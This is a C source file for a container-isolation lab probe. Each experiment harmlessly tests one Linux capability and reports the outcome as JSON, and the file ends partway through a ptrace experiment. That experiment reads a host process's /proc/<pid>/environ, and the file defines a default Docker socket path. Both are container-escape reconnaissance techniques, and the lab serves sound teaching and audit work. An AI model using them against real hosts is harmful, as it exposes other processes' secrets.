/* probe.c: the probe that runs inside isolab's lab image. One static binary,
 * several commands: `self` (this process's own view), `list`, and one
 * experiment per capability, each trying a single capability-gated operation
 * without harming anything and printing one JSON line with what the kernel
 * answered. It is built with musl's headers only (no libcap, no jansson), so
 * it carries its own small buffer, JSON writer and HTTP client. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/utsname.h>

#include "util.h"

enum {
	PROBE_EXIT_RAN = 0,   /* the command ran, whatever the kernel answered */
	PROBE_EXIT_FAIL = 1,  /* the probe itself failed (stdout unwritable) */
	PROBE_EXIT_USAGE = 2, /* bad usage */
};

/* Capability numbers (linux/capability.h is not in musl's headers). */
enum {
	CAP_CHOWN_BIT = 0,
	CAP_DAC_READ_SEARCH_BIT = 2,
	CAP_NET_BIND_SERVICE_BIT = 10,
	CAP_NET_ADMIN_BIT = 12,
	CAP_NET_RAW_BIT = 13,
	CAP_SYS_MODULE_BIT = 16,
	CAP_SYS_CHROOT_BIT = 18,
	CAP_SYS_PTRACE_BIT = 19,
	CAP_SYS_ADMIN_BIT = 21,
	CAP_SYS_BOOT_BIT = 22,
	CAP_MKNOD_BIT = 27,
};

/* reboot(2) magic: the kernel compares magic1 with 0xfee1dead only after
 * its CAP_SYS_BOOT check, so a wrong magic1 tells the two apart and can never
 * reboot anything. The command is LINUX_REBOOT_CMD_CAD_OFF, harmless even if
 * the magic were right. */
#define PROBE_REBOOT_MAGIC1_REAL 0xfee1deadU
#define PROBE_REBOOT_BAD_MAGIC1 0U
#define PROBE_REBOOT_BAD_MAGIC2 0U
#define PROBE_REBOOT_CMD_CAD_OFF 0U
_Static_assert(PROBE_REBOOT_BAD_MAGIC1 != PROBE_REBOOT_MAGIC1_REAL,
	       "the reboot probe must use an invalid magic number");

#define PROBE_CANARY_MAX 128		 /* bytes of a canary's first line */
#define PROBE_READ_MAX (1024 * 1024)	 /* cap on files the probe reads */
#define PROBE_HTTP_MAX (4 * 1024 * 1024) /* cap on one API response */
#define PROBE_HTTP_TIMEOUT_MS 60000
#define PROBE_MAX_LABELS 32
#define PROBE_DEFAULT_SOCKET "/var/run/docker.sock"

/* --- small vocabulary: runner/util.c's, linked in statically ------------- */

static void strbuf_release_p(struct strbuf *sb)
{
	strbuf_release(sb);
}
#define cleanup_strbuf __attribute__((cleanup(strbuf_release_p)))

static int write_all(int fd, const char *p, size_t n)
{
	while (n) {
		ssize_t w = write(fd, p, n);

		if (w < 0) {
			if (errno == EINTR)
				continue;
			return -1;
		}
		p += w;
		n -= (size_t)w;
	}
	return 0;
}

/* Read fd to EOF, at most max bytes. Returns 0 or -errno. */
static int read_fd(int fd, struct strbuf *out, size_t max)
{
	char chunk[4096];

	for (;;) {
		size_t want = sizeof(chunk);
		ssize_t r;

		if (out->len >= max)
			return 0;
		if (want > max - out->len)
			want = max - out->len;
		r = read(fd, chunk, want);
		if (r < 0) {
			if (errno == EINTR)
				continue;
			return -errno;
		}
		if (r == 0)
			return 0;
		strbuf_add(out, chunk, (size_t)r);
	}
}

static int read_file_at(int dirfd, const char *path, struct strbuf *out, size_t max)
{
	cleanup_close int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC | O_NOCTTY);

	if (fd < 0)
		return -errno;
	return read_fd(fd, out, max);
}

/* The first line of p[0..n), at most PROBE_CANARY_MAX bytes. */
static void first_line(const char *p, size_t n, struct strbuf *out)
{
	size_t i;

	for (i = 0; i < n && i < PROBE_CANARY_MAX && p[i] != '\n'; i++)
		;
	if (i && p[i - 1] == '\r')
		i--;
	strbuf_add(out, p, i);
}

/* Parse a positive decimal pid; -1 if it is not one. */
static int parse_pid(const char *s)
{
	long v = 0;

	if (!*s || *s == '0')
		return -1;
	for (; *s; s++) {
		if (*s < '0' || *s > '9')
			return -1;
		v = v * 10 + (*s - '0');
		if (v > 4194304) /* PID_MAX_LIMIT */
			return -1;
	}
	return (int)v;
}

static bool has_ctl(const char *s)
{
	for (; *s; s++)
		if ((unsigned char)*s < 0x20 || *s == 0x7f)
			return true;
	return false;
}

static bool valid_abs_path(const char *s)
{
	return s[0] == '/' && strlen(s) < PATH_MAX && !has_ctl(s);
}

/* --- errno names (musl has no strerrorname_np) ---------------------------- */

static const char *const errno_names[] = {
	[EPERM] = "EPERM",		[ENOENT] = "ENOENT",
	[ESRCH] = "ESRCH",		[EINTR] = "EINTR",
	[EIO] = "EIO",			[ENXIO] = "ENXIO",
	[E2BIG] = "E2BIG",		[ENOEXEC] = "ENOEXEC",
	[EBADF] = "EBADF",		[ECHILD] = "ECHILD",
	[EAGAIN] = "EAGAIN",		[ENOMEM] = "ENOMEM",
	[EACCES] = "EACCES",		[EFAULT] = "EFAULT",
	[ENOTBLK] = "ENOTBLK",		[EBUSY] = "EBUSY",
	[EEXIST] = "EEXIST",		[EXDEV] = "EXDEV",
	[ENODEV] = "ENODEV",		[ENOTDIR] = "ENOTDIR",
	[EISDIR] = "EISDIR",		[EINVAL] = "EINVAL",
	[ENFILE] = "ENFILE",		[EMFILE] = "EMFILE",
	[ENOTTY] = "ENOTTY",		[ETXTBSY] = "ETXTBSY",
	[EFBIG] = "EFBIG",		[ENOSPC] = "ENOSPC",
	[ESPIPE] = "ESPIPE",		[EROFS] = "EROFS",
	[EMLINK] = "EMLINK",		[EPIPE] = "EPIPE",
	[EDOM] = "EDOM",		[ERANGE] = "ERANGE",
	[EDEADLK] = "EDEADLK",		[ENAMETOOLONG] = "ENAMETOOLONG",
	[ENOLCK] = "ENOLCK",		[ENOSYS] = "ENOSYS",
	[ENOTEMPTY] = "ENOTEMPTY",	[ELOOP] = "ELOOP",
	[ENOMSG] = "ENOMSG",		[ENODATA] = "ENODATA",
	[EPROTO] = "EPROTO",		[EBADMSG] = "EBADMSG",
	[EOVERFLOW] = "EOVERFLOW",	[ENOTSOCK] = "ENOTSOCK",
	[EMSGSIZE] = "EMSGSIZE",	[EPROTOTYPE] = "EPROTOTYPE",
	[EPROTONOSUPPORT] = "EPROTONOSUPPORT",
	[EOPNOTSUPP] = "EOPNOTSUPP",	[EAFNOSUPPORT] = "EAFNOSUPPORT",
	[EADDRINUSE] = "EADDRINUSE",	[ENETDOWN] = "ENETDOWN",
	[ECONNRESET] = "ECONNRESET",	[ENOBUFS] = "ENOBUFS",
	[ENOTCONN] = "ENOTCONN",	[ETIMEDOUT] = "ETIMEDOUT",
	[ECONNREFUSED] = "ECONNREFUSED", [ESTALE] = "ESTALE",
	[EKEYREJECTED] = "EKEYREJECTED",
};

static const char *errno_name(int e)
{
	if (e == 0)
		return "";
	if (e > 0 && (size_t)e < ARRAY_SIZE(errno_names) && errno_names[e])
		return errno_names[e];
	return "EUNKNOWN";
}

/* --- JSON writer ------------------------------------------------------------ */

/* Length of a valid UTF-8 sequence at p (at most n bytes), 0 if invalid:
 * strict parsers reject invalid UTF-8, and canaries are arbitrary bytes. */
static size_t utf8_len(const unsigned char *p, size_t n)
{
	unsigned char c = p[0];
	size_t len, i;
	unsigned char lo = 0x80, hi = 0xbf;

	if (c >= 0xc2 && c <= 0xdf)
		len = 2;
	else if (c >= 0xe0 && c <= 0xef)
		len = 3;
	else if (c >= 0xf0 && c <= 0xf4)
		len = 4;
	else
		return 0;
	if (n < len)
		return 0;
	if (c == 0xe0)
		lo = 0xa0;
	else if (c == 0xed)
		hi = 0x9f;
	else if (c == 0xf0)
		lo = 0x90;
	else if (c == 0xf4)
		hi = 0x8f;
	if (p[1] < lo || p[1] > hi)
		return 0;
	for (i = 2; i < len; i++)
		if (p[i] < 0x80 || p[i] > 0xbf)
			return 0;
	return len;
}

static void json_quote(struct strbuf *sb, const char *s, size_t n)
{
	static const char hex[] = "0123456789abcdef";
	const unsigned char *p = (const unsigned char *)s;
	size_t i = 0;

	strbuf_addc(sb, '"');
	while (i < n) {
		unsigned char c = p[i];
		size_t len;

		switch (c) {
		case '"':
			strbuf_adds(sb, "\\\"");
			break;
		case '\\':
			strbuf_adds(sb, "\\\\");
			break;
		case '\n':
			strbuf_adds(sb, "\\n");
			break;
		case '\r':
			strbuf_adds(sb, "\\r");
			break;
		case '\t':
			strbuf_adds(sb, "\\t");
			break;
		case '\b':
			strbuf_adds(sb, "\\b");
			break;
		case '\f':
			strbuf_adds(sb, "\\f");
			break;
		default:
			if (c < 0x20 || c == 0x7f) {
				char u[6] = {'\\', 'u', '0', '0', hex[c >> 4], hex[c & 15]};

				strbuf_add(sb, u, sizeof(u));
			} else if (c < 0x80) {
				strbuf_addc(sb, (char)c);
			} else if ((len = utf8_len(p + i, n - i))) {
				strbuf_add(sb, (const char *)p + i, len);
				i += len;
				continue;
			} else {
				strbuf_adds(sb, "\\ufffd");
			}
		}
		i++;
	}
	strbuf_addc(sb, '"');
}

struct json {
	struct strbuf sb;
	bool first;
};

static void json_begin(struct json *j)
{
	strbuf_reset(&j->sb);
	strbuf_addc(&j->sb, '{');
	j->first = true;
}

static void json_sep(struct json *j)
{
	if (!j->first)
		strbuf_addc(&j->sb, ',');
	j->first = false;
}

static void json_keyn(struct json *j, const char *key, size_t n)
{
	json_sep(j);
	json_quote(&j->sb, key, n);
	strbuf_addc(&j->sb, ':');
}

static void json_key(struct json *j, const char *key)
{
	json_keyn(j, key, strlen(key));
}

static void json_strn(struct json *j, const char *key, const char *v, size_t n)
{
	json_key(j, key);
	json_quote(&j->sb, v, n);
}

/* A NULL value is written as null. */
static void json_str(struct json *j, const char *key, const char *v)
{
	if (!v) {
		json_key(j, key);
		strbuf_adds(&j->sb, "null");
		return;
	}
	json_strn(j, key, v, strlen(v));
}

static void json_int(struct json *j, const char *key, long long v)
{
	json_key(j, key);
	strbuf_addf(&j->sb, "%lld", v);
}

static void json_bool(struct json *j, const char *key, bool v)
{
	json_key(j, key);
	strbuf_adds(&j->sb, v ? "true" : "false");
}

static void json_open(struct json *j, const char *key, char bracket)
{
	json_key(j, key);
	strbuf_addc(&j->sb, bracket);
	j->first = true;
}

static void json_close(struct json *j, char bracket)
{
	strbuf_addc(&j->sb, bracket);
	j->first = false;
}

static void json_elem_str(struct json *j, const char *v)
{
	json_sep(j);
	json_quote(&j->sb, v, strlen(v));
}

/* Close the object and print it as one line. */
static int json_emit(struct json *j)
{
	strbuf_adds(&j->sb, "}\n");
	if (write_all(1, j->sb.buf, j->sb.len) < 0) {
		fprintf(stderr, "probe: cannot write to stdout: %s\n", strerror(errno));
		return PROBE_EXIT_FAIL;
	}
	return PROBE_EXIT_RAN;
}

static void json_release(struct json *j)
{
	strbuf_release(&j->sb);
}
#define cleanup_json __attribute__((cleanup(json_release)))

/* --- this process's own state ---------------------------------------------- */

/* s as one number in base, blanks around it allowed: true and *v, or false
 * when s is anything else (strtoll, checked: atoi would say 0). */
static bool parse_num(const char *s, int base, long long *v)
{
	char *end;

	errno = 0;
	*v = strtoll(s, &end, base);
	if (errno || end == s)
		return false;
	while (*end == ' ' || *end == '\t' || *end == '\n')
		end++;
	return *end == '\0';
}

/* The value of "Key:" in /proc/self/status, or NULL. */
static char *status_field(const struct strbuf *status, const char *key)
{
	size_t klen = strlen(key);
	const char *p = strbuf_str(status);

	while (p && *p) {
		if (!strncmp(p, key, klen) && p[klen] == ':') {
			const char *v = p + klen + 1, *end;

			while (*v == ' ' || *v == '\t')
				v++;
			end = strchrnul(v, '\n');
			return strndup(v, (size_t)(end - v));
		}
		p = strchr(p, '\n');
		if (p)
			p++;
	}
	return NULL;
}

static char *self_status(const char *key)
{
	cleanup_strbuf struct strbuf st = STRBUF_INIT;

	if (read_file_at(AT_FDCWD, "/proc/self/status", &st, PROBE_READ_MAX) < 0)
		return NULL;
	return status_field(&st, key);
}

/* 1 when bit is in CapEff, 0 when not, -1 when unknown. */
static int cap_effective(int bit)
{
	cleanup_free char *v = self_status("CapEff");
	char *end;
	unsigned long long mask;

	if (!v)
		return -1;
	errno = 0;
	mask = strtoull(v, &end, 16);
	if (errno || end == v)
		return -1;
	return (mask >> bit) & 1 ? 1 : 0;
}

/* 0 disabled, 1 strict, 2 filter, -1 unknown. */
static int seccomp_mode(void)
{
	cleanup_free char *v = self_status("Seccomp");
	long long mode;

	return v && parse_num(v, 10, &mode) && mode >= 0 && mode <= 2 ? (int)mode : -1;
}

/* Why the kernel refused, from this process's own state: appended to a
 * detail sentence that ends just before it. `call` names the syscall a
 * seccomp profile would gate on the same capability, or NULL. */
static void explain_refusal(struct strbuf *d, int bit, const char *cap, const char *call)
{
	int have = cap_effective(bit);
	bool filtered = seccomp_mode() == 2;

	if (have == 0) {
		strbuf_addf(d, ": %s is not in this process's effective capability set", cap);
		if (call && filtered)
			strbuf_addf(d, " (a seccomp filter is active too, and Docker's default profile refuses %s without %s before the kernel's own check)",
				    call, cap);
	} else if (have == 1) {
		strbuf_addf(d, ", although %s is in the effective capability set: %s refused it",
			    cap, filtered ? "the active seccomp filter or a security module"
					  : "a security module or another kernel check");
	} else {
		strbuf_adds(d, " (this process's capabilities could not be read)");
	}
	strbuf_addc(d, '.');
}

/* --- experiments: the common frame ------------------------------------------ */

struct experiment {
	const char *name;
	const char *capability;
	const char *args;
	const char *summary;
	int (*run)(const struct experiment *e, int argc, char **argv);
};

enum outcome { ALLOWED, DENIED, FAILED };

static const char *outcome_name(enum outcome o)
{
	switch (o) {
	case ALLOWED:
		return "allowed";
	case DENIED:
		return "denied";
	default:
		return "error";
	}
}

__attribute__((format(printf, 2, 3)))
static int usage_error(const struct experiment *e, const char *fmt, ...)
{
	va_list ap;

	fprintf(stderr, "probe: %s: ", e->name);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fprintf(stderr, "\nusage: probe %s%s%s\n", e->name, *e->args ? " " : "", e->args);
	return PROBE_EXIT_USAGE;
}

/* Start the line: the fixed fields, in contract order. Extra fields follow. */
static void report_begin(struct json *j, const struct experiment *e, enum outcome o, int err,
			 const struct strbuf *detail)
{
	json_begin(j);
	json_str(j, "experiment", e->name);
	json_str(j, "capability", e->capability);
	json_str(j, "result", outcome_name(o));
	json_int(j, "errno", o == ALLOWED ? 0 : err);
	json_str(j, "errno_name", errno_name(o == ALLOWED ? 0 : err));
	json_str(j, "detail", strbuf_str(detail));
}

static int report(const struct experiment *e, enum outcome o, int err, const struct strbuf *detail)
{
	cleanup_json struct json j = {STRBUF_INIT, true};

	report_begin(&j, e, o, err, detail);
	return json_emit(&j);
}

static int no_args(const struct experiment *e, int argc, char **argv)
{
	if (argc > 0)
		return usage_error(e, "unexpected argument '%s'", argv[0]);
	return 0;
}

/* --- 1. chown ---------------------------------------------------------------- */

static int exp_chown(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	char path[] = "/tmp/isolab-chown-XXXXXX";
	int fd, r, err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	fd = mkstemp(path);
	if (fd < 0) {
		err = errno;
		strbuf_addf(&d, "Could not create a test file under /tmp (%s), so chown(2) was not tried.",
			    strerror(err));
		return report(e, FAILED, err, &d);
	}
	/* Give the file to someone else: chown to one's own uid and gid needs
	 * no capability and would prove nothing. */
	unsigned to = geteuid() == 1000 || getegid() == 1000 ? 1001 : 1000;
	r = fchown(fd, to, to);
	err = errno;
	close(fd);
	unlink(path);
	if (r == 0) {
		strbuf_addf(&d, "chown(2) gave a new file under /tmp to uid %u, gid %u: cap_chown lets its holder hand any file to any user. The file was removed.", to, to);
		return report(e, ALLOWED, 0, &d);
	}
	if (err == EPERM) {
		strbuf_addf(&d, "chown(2) of a new file under /tmp to %u:%u was refused with EPERM", to, to);
		explain_refusal(&d, CAP_CHOWN_BIT, "cap_chown", NULL);
		strbuf_adds(&d, geteuid() == 0 ? " Without it no process, not even uid 0, can give a file away. The file was removed."
					       : " This process is not uid 0, and without cap_chown a process can give away no file. The file was removed.");
		return report(e, DENIED, err, &d);
	}
	strbuf_addf(&d, "chown(2) of a new file under /tmp failed with %s (%s), which is not a privilege refusal. The file was removed.",
		    errno_name(err), strerror(err));
	return report(e, FAILED, err, &d);
}

/* --- 2. net_raw -------------------------------------------------------------- */

static int exp_net_raw(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	int fd, err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	err = errno;
	if (fd >= 0) {
		close(fd);
		strbuf_adds(&d, "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) opened a raw socket (closed again, nothing sent): cap_net_raw lets a process forge any packet and see all traffic of its network namespace. (ping needs no raw socket where net.ipv4.ping_group_range admits its group: see the icmp_dgram experiment.)");
		return report(e, ALLOWED, 0, &d);
	}
	if (err == EPERM || err == EACCES) {
		strbuf_addf(&d, "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) was refused with %s", errno_name(err));
		explain_refusal(&d, CAP_NET_RAW_BIT, "cap_net_raw", NULL);
		return report(e, DENIED, err, &d);
	}
	strbuf_addf(&d, "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) failed with %s (%s), which is not a privilege refusal.",
		    errno_name(err), strerror(err));
	return report(e, FAILED, err, &d);
}

/* --- 2b. the sockets that need no capability here --------------------------- */

/* The first line of a /proc/sys file, or "unreadable". */
static void read_sysctl(const char *path, struct strbuf *out)
{
	cleanup_strbuf struct strbuf raw = STRBUF_INIT;

	if (read_file_at(AT_FDCWD, path, &raw, 256) == 0 && raw.len) {
		first_line(raw.buf, raw.len, out);
		for (size_t i = 0; i < out->len; i++)
			if (out->buf[i] == '\t')
				out->buf[i] = ' ';
	} else {
		strbuf_adds(out, "unreadable");
	}
}

static int exp_bind_low_port(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf start = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	struct sockaddr_in sa;
	enum outcome o;
	int fd, r, err, have;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	read_sysctl("/proc/sys/net/ipv4/ip_unprivileged_port_start", &start);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		err = errno;
		strbuf_addf(&d, "Could not open a TCP socket (%s), so bind(2) was not tried.", strerror(err));
		return report(e, FAILED, err, &d);
	}
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(80);
	sa.sin_addr.s_addr = htonl(INADDR_ANY);
	r = bind(fd, (struct sockaddr *)&sa, sizeof(sa));
	err = errno;
	close(fd);
	have = cap_effective(CAP_NET_BIND_SERVICE_BIT);
	if (r == 0) {
		o = ALLOWED;
		strbuf_addf(&d, "bind(2) to TCP port 80 succeeded (closed again, never listened). net.ipv4.ip_unprivileged_port_start = %s in this network namespace: the kernel asks for cap_net_bind_service only below that port, ",
			    strbuf_str(&start));
		strbuf_adds(&d, have == 1 ? "and this process holds it anyway."
				: "so this process bound port 80 without the capability (Docker sets the sysctl to 0 in a container's own network namespace).");
	} else if (err == EACCES || err == EPERM) {
		o = DENIED;
		strbuf_addf(&d, "bind(2) to TCP port 80 was refused with %s: net.ipv4.ip_unprivileged_port_start = %s, so port 80 needs cap_net_bind_service",
			    errno_name(err), strbuf_str(&start));
		explain_refusal(&d, CAP_NET_BIND_SERVICE_BIT, "cap_net_bind_service", NULL);
	} else {
		o = FAILED;
		strbuf_addf(&d, "bind(2) to TCP port 80 failed with %s (%s), which is not a privilege refusal.",
			    errno_name(err), strerror(err));
	}
	report_begin(&j, e, o, err, &d);
	json_int(&j, "port", 80);
	json_str(&j, "ip_unprivileged_port_start", strbuf_str(&start));
	return json_emit(&j);
}

static int exp_icmp_dgram(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf range = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	enum outcome o;
	int fd, err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	read_sysctl("/proc/sys/net/ipv4/ping_group_range", &range);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
	err = errno;
	if (fd >= 0) {
		close(fd);
		o = ALLOWED;
		strbuf_addf(&d, "socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP) opened an ICMP datagram socket, the one ping uses without privilege (closed again, nothing sent): net.ipv4.ping_group_range = %s admits this process's gid %u, and no capability is checked.",
			    strbuf_str(&range), (unsigned)getegid());
	} else if (err == EACCES || err == EPERM) {
		o = DENIED;
		strbuf_addf(&d, "socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP) was refused with %s: net.ipv4.ping_group_range = %s does not admit gid %u, so ping would need a raw socket and cap_net_raw.",
			    errno_name(err), strbuf_str(&range), (unsigned)getegid());
	} else {
		o = FAILED;
		strbuf_addf(&d, "socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP) failed with %s (%s), which is not a privilege refusal.",
			    errno_name(err), strerror(err));
	}
	report_begin(&j, e, o, err, &d);
	json_str(&j, "ping_group_range", strbuf_str(&range));
	return json_emit(&j);
}

/* --- 2c. setuid: what execve of a setuid-root file grants ------------------- */

#define PROBE_SUID_PATH "/bin/probe-suid"

static unsigned long long status_mask(const char *key)
{
	cleanup_free char *v = self_status(key);

	return v ? strtoull(v, NULL, 16) : 0;
}

/* The half that runs after execve of the setuid-root copy: it reports what
 * the kernel gave it, against what the caller had before. */
static int setuid_after(const struct experiment *e, const char *before_uid, const char *before_eff)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	cleanup_free char *nnp = self_status("NoNewPrivs");
	unsigned long long eff = status_mask("CapEff"), bnd = status_mask("CapBnd");
	unsigned long long before = strtoull(before_eff, NULL, 16);
	unsigned long long gained = eff & ~before;
	long long nnp_v;
	bool nnp_on = nnp && parse_num(nnp, 10, &nnp_v) && nnp_v == 1;

	strbuf_addf(&d, "Before execve: uid %s, CapEff %016llx. After execve of the setuid-root %s: euid %u, CapEff %016llx (%d capabilities gained), CapBnd %016llx, NoNewPrivs %s. ",
		    before_uid, before, PROBE_SUID_PATH, (unsigned)geteuid(), eff, __builtin_popcountll(gained),
		    bnd, nnp ? nnp : "?");
	if (gained)
		strbuf_adds(&d, "The setuid bit made the process root, and the kernel raised its capabilities to the whole bounding set: the ceiling, not the empty effective set, is what it could reach.");
	else if (nnp_on)
		strbuf_adds(&d, "no_new_privs is set, so the kernel ignored the setuid bit: the euid did not change and no capability was gained.");
	else if (!bnd)
		strbuf_adds(&d, "The setuid bit made the process uid 0, but the bounding set is empty: a root without a single capability.");
	else
		strbuf_adds(&d, "No capability was gained.");
	report_begin(&j, e, gained ? ALLOWED : DENIED, gained ? 0 : EPERM, &d);
	json_int(&j, "euid", (long long)geteuid());
	json_int(&j, "gained", __builtin_popcountll(gained));
	return json_emit(&j);
}

static int exp_setuid(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	char uid[24], eff[24];
	int err;

	if (argc == 3 && !strcmp(argv[0], "--after"))
		return setuid_after(e, argv[1], argv[2]);
	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	snprintf(uid, sizeof(uid), "%u", (unsigned)getuid());
	snprintf(eff, sizeof(eff), "%016llx", status_mask("CapEff"));
	fflush(stdout);
	execl(PROBE_SUID_PATH, "probe-suid", e->name, "--after", uid, eff, (char *)NULL);
	err = errno;
	strbuf_addf(&d, "execve of %s failed with %s (%s), so nothing was tried.", PROBE_SUID_PATH,
		    errno_name(err), strerror(err));
	return report(e, FAILED, err, &d);
}

/* --- 3. net_admin ------------------------------------------------------------ */

static int exp_net_admin(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	cleanup_close int fd = -1;
	struct ifreq ifr;
	enum outcome o;
	int mtu, r, err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		err = errno;
		strbuf_addf(&d, "Could not open a socket to talk to the network stack (%s), so nothing was tried.",
			    strerror(err));
		return report(e, FAILED, err, &d);
	}
	memset(&ifr, 0, sizeof(ifr));
	memcpy(ifr.ifr_name, "lo", 3);
	if (ioctl(fd, SIOCGIFMTU, &ifr) < 0) {
		err = errno;
		strbuf_addf(&d, "Reading the MTU of lo (SIOCGIFMTU) failed with %s (%s), so setting it was not tried.",
			    errno_name(err), strerror(err));
		return report(e, FAILED, err, &d);
	}
	mtu = ifr.ifr_mtu;
	/* The same value: the kernel checks CAP_NET_ADMIN first and then finds
	 * nothing to change. */
	r = ioctl(fd, SIOCSIFMTU, &ifr);
	err = errno;
	if (r == 0) {
		o = ALLOWED;
		strbuf_addf(&d, "SIOCSIFMTU on lo succeeded (set to its current value, %d, so nothing changed): cap_net_admin lets a process reconfigure the interfaces, routes and firewall of its network namespace, here the container's own.",
			    mtu);
	} else if (err == EPERM || err == EACCES) {
		o = DENIED;
		strbuf_addf(&d, "SIOCSIFMTU on lo (to its current value, %d) was refused with %s", mtu,
			    errno_name(err));
		explain_refusal(&d, CAP_NET_ADMIN_BIT, "cap_net_admin", NULL);
	} else {
		o = FAILED;
		strbuf_addf(&d, "SIOCSIFMTU on lo failed with %s (%s), which is not a privilege refusal.",
			    errno_name(err), strerror(err));
	}
	report_begin(&j, e, o, err, &d);
	json_str(&j, "interface", "lo");
	json_int(&j, "mtu", mtu);
	return json_emit(&j);
}

/* --- 4. sys_admin ------------------------------------------------------------ */

static int exp_sys_admin(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	char dir[] = "/tmp/isolab-mnt-XXXXXX";
	int r, err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	if (!mkdtemp(dir)) {
		err = errno;
		strbuf_addf(&d, "Could not create a directory under /tmp (%s), so mount(2) was not tried.",
			    strerror(err));
		return report(e, FAILED, err, &d);
	}
	r = mount("isolab-probe", dir, "tmpfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, "size=16k,mode=0700");
	err = errno;
	if (r == 0) {
		bool gone = umount2(dir, 0) == 0 || umount2(dir, MNT_DETACH) == 0;

		rmdir(dir);
		int mode = seccomp_mode();

		strbuf_addf(&d, "mount(2) of a tmpfs on %s succeeded%s: cap_sys_admin allows mounting file systems (and much else), and %s",
			    dir, gone ? " and it was unmounted again" : " (it could not be unmounted)",
			    mode == 0 ? "no seccomp filter is active in this process (Seccomp: 0), so nothing filtered the call."
			    : mode == 2 ? "the active seccomp filter let mount(2) through (Docker's default profile does once the capability is granted)."
					: "this process's seccomp state could not be read.");
		return report(e, ALLOWED, 0, &d);
	}
	rmdir(dir);
	if (err == EPERM || err == EACCES) {
		strbuf_addf(&d, "mount(2) of a tmpfs on a new directory under /tmp was refused with %s",
			    errno_name(err));
		explain_refusal(&d, CAP_SYS_ADMIN_BIT, "cap_sys_admin", "mount(2)");
		return report(e, DENIED, err, &d);
	}
	strbuf_addf(&d, "mount(2) of a tmpfs under /tmp failed with %s (%s), which is not a privilege refusal.",
		    errno_name(err), strerror(err));
	return report(e, FAILED, err, &d);
}

/* --- 5. sys_ptrace ----------------------------------------------------------- */

static void read_comm(int pid, struct strbuf *out)
{
	char path[64];
	cleanup_strbuf struct strbuf raw = STRBUF_INIT;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	if (read_file_at(AT_FDCWD, path, &raw, 64) == 0)
		first_line(raw.buf ? raw.buf : "", raw.len, out);
}

static int exp_sys_ptrace(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf env = STRBUF_INIT;
	cleanup_strbuf struct strbuf comm = STRBUF_INIT;
	cleanup_strbuf struct strbuf nonce = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	cleanup_close int fd = -1;
	char path[64];
	bool found = false;
	size_t i, nvars = 0;
	int pid, r;

	if (argc != 1)
		return usage_error(e, argc ? "too many arguments" : "a PID is needed");
	pid = parse_pid(argv[0]);
	if (pid < 0)
		return usage_error(e, "'%s' is not a process id", argv[0]);
	if (pid == getpid()) {
		strbuf_addf(&d, "Process %d is this probe itself, not a host process: pass the witness's pid as the host sees it, with --pid=host.",
			    pid);
		return report(e, FAILED, 0, &d);
	}
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	read_comm(pid, &comm);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	r = fd < 0 ? -errno : read_fd(fd, &env, PROBE_READ_MAX);
	if (r == -ENOENT || r == -ESRCH) {
		strbuf_addf(&d, "No process %d is visible here: this container's pid namespace hides the host's processes (share the host's with --pid=host).",
			    pid);
		return report(e, FAILED, -r, &d);
	}
	if (r == -EACCES || r == -EPERM) {
		strbuf_addf(&d, "Reading %s was refused with %s. Reading another process's environment needs ptrace access; the witness holds capabilities this process lacks, so the kernel's commoncap check demands cap_sys_ptrace",
			    path, errno_name(-r));
